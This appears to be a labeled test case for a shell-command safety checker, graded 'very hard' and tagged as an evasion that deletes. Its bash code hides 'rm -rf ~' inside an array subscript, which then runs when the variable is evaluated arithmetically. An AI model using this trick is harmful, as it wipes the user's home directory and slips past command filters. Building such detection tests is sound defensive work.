# evasion: arithmetic evaluation of a variable holding an array subscript with $(...)
# grade: very hard; does: delete
declare -a x
i='x[$(rm -rf ~)]'
echo $((i))
